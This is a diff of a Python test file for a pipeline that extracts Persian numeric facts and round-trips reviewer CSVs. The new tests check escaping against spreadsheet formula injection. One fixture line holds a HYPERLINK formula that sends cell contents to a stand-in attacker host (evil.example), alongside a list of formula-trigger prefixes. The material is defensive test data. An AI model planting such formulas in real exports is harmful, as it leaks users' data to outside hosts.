@@ -4,12 +4,16 @@ import json
 import shutil
 
 import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 from typer.testing import CliRunner
 
 from pipeline.cli import app
 from pipeline.evaluate import evaluate, format_report, load_gold
-from pipeline.review import ReviewError, gold_lines, import_review, merge_gold, ImportSummary
+from pipeline.factsheet import quote_formula, unquote_formula
+from pipeline.review import ReviewError, gold_lines, import_review, merge_gold, read_review_csv, ImportSummary
+from pipeline.run import run_pipeline
 
 DOC = "001_dc0e3ef97df6e412"
 MISSED = "۳۱۰.۸ میلیون دلار"  # a money fact of seed 002, re-added by the reviewer as if it had been missed
@@ -109,8 +113,10 @@ def test_merging_keeps_existing_lines_and_refuses_a_silent_overwrite(run_dir, tm
     review = _reviewed(run_dir)
     review.loc[review.text == "۲۳۵ میلیون دلار", "verdict"] = "ok"  # a second reviewer disagrees
     _save(review, run_dir)
-    with pytest.raises(ReviewError, match="disagrees with the gold file"):
+    with pytest.raises(ReviewError, match="disagrees with the gold file") as disagreement:
         import_review(csv, gold_path)
+    assert "gold has {'doc'" in str(disagreement.value)
+    assert "'verdict': 'wrong'}, review says" in str(disagreement.value) and str(disagreement.value).endswith("'verdict': 'ok'}")
     assert gold_path.read_text(encoding="utf-8") == first
     replaced = import_review(csv, gold_path, replace=True)
     assert replaced.replaced == 1
@@ -185,3 +191,66 @@ def test_a_reviewed_article_with_rows_left_without_verdict_is_warned_about():
              "end": str(i + 1), "value": "1", "verdict": verdict} for i, verdict in enumerate(["ok", "", ""])]
     _, summary = gold_lines(pd.DataFrame(rows, dtype=str))
     assert summary.warnings == ["d: 2 rows without a verdict in a reviewed document; evaluate counts what the run finds there as false positives"]
+
+
+# an article from the web whose first sentence a spreadsheet would run as a formula
+FORMULA_ARTICLE = (
+    '=HYPERLINK("http://evil.example/?q="&A1,"کلیک") صادرات ایران به عراق ۲۳۵ میلیون دلار بود و ۱۴ سند همکاری امضا شد.\n'
+    "رشد اقتصادی منفی ۲.۸ درصد بود و سهم بازار +۲۰ درصد رشد کرد.\n"
+)
+
+
+@pytest.fixture
+def formula_run(tmp_path):
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "a.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
+    run_pipeline(tmp_path / "in", tmp_path / "out")
+    return tmp_path / "out"
+
+
+def _cells(csv):
+    return pd.read_csv(csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+
+
+def test_csv_starts_with_the_reviewers_columns_and_writes_whole_numbers_as_integers(formula_run):
+    review = _cells(formula_run / "facts.csv")
+    assert list(review.columns[:4]) == ["verdict", "fact_type", "text", "amount"]
+    assert review.columns.get_loc("count") < review.columns.get_loc("sentence") < review.columns.get_loc("fact_id")
+    [count] = review[review.fact_type == "doc_count"].to_dict("records")
+    assert (count["count"], count["start"], count["end"], count["sentence_id"]) == ("14", "91", "104", "0")
+    assert pq.read_schema(formula_run / "facts.parquet").field("count").type == pa.int64()  # and in the Parquet
+
+
+def test_csv_quotes_text_a_spreadsheet_would_run_and_leaves_numbers_alone(formula_run):
+    review = _cells(formula_run / "facts.csv")
+    assert set(review.sentence[review.fact_type != "percent"]) == {"'" + FORMULA_ARTICLE.splitlines()[0]}
+    [minus] = review[review.text == "منفی ۲.۸ درصد"].to_dict("records")
+    assert minus["value"] == "-2.8"  # a negative number is not a formula
+
+
+def test_review_import_takes_the_quote_off_again(formula_run, tmp_path):
+    review = _cells(formula_run / "facts.csv")
+    review["verdict"] = "ok"
+    typed = {column: "" for column in review.columns} | {"doc_id": "a", "fact_type": "percent", "text": "'+۲۰ درصد", "value": "20"}
+    review = pd.concat([review, pd.DataFrame([typed])], ignore_index=True)
+    csv = formula_run / "facts.csv"
+    review.to_csv(csv, index=False, encoding="utf-8-sig")
+    assert read_review_csv(csv).sentence[0] == FORMULA_ARTICLE.splitlines()[0]
+
+    import_review(csv, tmp_path / "gold.jsonl")
+    by_text = {g["text"]: g for g in load_gold(tmp_path / "gold.jsonl")}
+    plus = by_text["+۲۰ درصد"]
+    assert (plus["verdict"], plus["value"], FORMULA_ARTICLE[plus["start"] : plus["end"]]) == ("missed", 20, "+۲۰ درصد")
+    assert by_text["منفی ۲.۸ درصد"]["value"] == -2.8
+    assert by_text["۱۴ سند همکاری"]["count"] == 14
+
+
+@pytest.mark.parametrize("cell", ["=1+2", "+98 21 555", "-", "@SUM(A1)", "\tx", "\rx", "'=quoted by hand", "''+x"])
+def test_a_formula_cell_round_trips(cell):
+    quoted = quote_formula(cell)
+    assert quoted == "'" + cell and unquote_formula(quoted) == cell
+
+
+@pytest.mark.parametrize("cell", ["'apostrophe first", "متن", "", "2025-12-13", -2.8, 14, None])
+def test_other_cells_are_written_and_read_as_they_are(cell):
+    assert quote_formula(cell) == cell and unquote_formula(cell) == cell
